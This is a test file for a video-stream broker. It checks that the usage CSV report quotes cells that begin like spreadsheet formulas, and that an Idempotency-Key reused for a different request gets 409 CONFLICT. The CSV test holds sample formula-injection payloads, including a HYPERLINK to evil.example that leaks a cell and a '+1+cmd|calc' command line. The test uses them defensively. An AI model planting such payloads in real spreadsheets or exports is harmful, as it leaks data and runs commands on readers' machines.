/**
 * Issue 8, point 14 (the HTTP-layer parts): the usage CSV neutralises cells a spreadsheet would run as
 * formulas, and an Idempotency-Key reused for another request answers 409 CONFLICT instead of handing
 * back the first request's session.
 */
import t from 'tap';
import { auth, buildTestBroker, STORES } from '../helper.js';
import { makeChannel } from '../fixtures.js';
import { csvField } from '../../src/core/usage-report.js';

t.test('point 14: usage CSV cells that start like a formula are quoted text', async (t) => {
  const tb = await buildTestBroker(t);
  const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', '+1+cmd|calc', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1'];
  // Entries as the services write them; the agency the report names comes from the entry's details.
  for (const agencyId of hostile) {
    await tb.broker.audit.record({
      actor: { id: 'u-1', role: 'operator', agencyId: 'platform' },
      action: 'stream.grant',
      target: 'session:s-1',
      outcome: 'ok',
      details: { agencyId, channelId: '44010600001310000001' },
    });
  }
  const month = new Date().toISOString().slice(0, 7);
  const res = await tb.app.inject({ url: `/api/v1/reports/usage?month=${month}`, headers: { ...auth(tb.adminToken), accept: 'text/csv' } });
  t.equal(res.statusCode, 200);
  t.match(res.headers['content-type'], /^text\/csv/);
  // Every data row's second field (the month's rows, not the signed-head footer); a cell is neutral when
  // it is quoted and its text starts with '.
  const fields = res.body
    .split('\r\n')
    .slice(1)
    .filter((row) => row.startsWith(`${month},`))
    .map((row) => row.slice(month.length + 1));
  t.equal(fields.length, hostile.length, 'one row per agency');
  for (const field of fields) {
    t.match(field, /^"'/, `neutralised: ${JSON.stringify(field.slice(0, 20))}`);
  }
  t.notOk(res.body.split('\r\n').some((row) => row.split(',').some((cell) => /^[=+\-@\t\r]/.test(cell))), 'no cell begins with a formula character');

  t.equal(csvField('=1+1'), `"'=1+1"`);
  t.equal(csvField('@x"y'), `"'@x""y"`, 'inner quotes still doubled');
  t.equal(csvField(-3), '-3', 'numbers stay numbers');
  t.equal(csvField('agency-a'), 'agency-a');
});

for (const env of STORES) {
  t.test(`point 14: the same Idempotency-Key for another request is 409 CONFLICT (${env.BROKER_STORE})`, async (t) => {
    const tb = await buildTestBroker(t, { env });
    const channels = [makeChannel(1, 1, 'video'), makeChannel(2, 1, 'video')];
    await tb.broker.catalog.seed(channels);
    const a = await tb.agency({ id: 'agency-a' });
    const open = (payload: object, key: string) =>
      tb.app.inject({ method: 'POST', url: '/api/v1/streams', headers: { ...auth(a.operatorToken), 'idempotency-key': key }, payload: { purpose: 'patrol check', ...payload } });

    const first = await open({ channelId: channels[0]!.id }, 'k-1');
    t.equal(first.statusCode, 201);
    const again = await open({ channelId: channels[0]!.id }, 'k-1');
    t.equal(again.statusCode, 201, 'same key, same request: the same session');
    t.equal(again.json().id, first.json().id);

    for (const [what, payload] of [
      ['another channel', { channelId: channels[1]!.id }],
      ['another purpose', { channelId: channels[0]!.id, purpose: 'something else' }],
      ['another priority', { channelId: channels[0]!.id, priority: 'urgent' }],
    ] as const) {
      const res = await open(payload, 'k-1');
      t.equal(res.statusCode, 409, `${what}: 409`);
      t.equal(res.json().error?.code, 'CONFLICT', `${what}: CONFLICT`);
      t.notOk(res.body.includes(first.json().id), `${what}: the first session is not handed out`);
    }
    const mine = await tb.app.inject({ url: '/api/v1/streams?scope=mine', headers: auth(a.operatorToken) });
    t.same(mine.json().items.map((s: { id: string }) => s.id), [first.json().id], 'no session was opened by the refusals');
    const capacity = (await tb.app.inject({ url: '/api/v1/capacity', headers: auth(tb.adminToken) })).json();
    t.equal(capacity.forwarding.used, 1, 'no slot was taken by the refusals');

    const other = await open({ channelId: channels[1]!.id }, 'k-2');
    t.equal(other.statusCode, 201, 'a fresh key opens the other channel');
  });
}
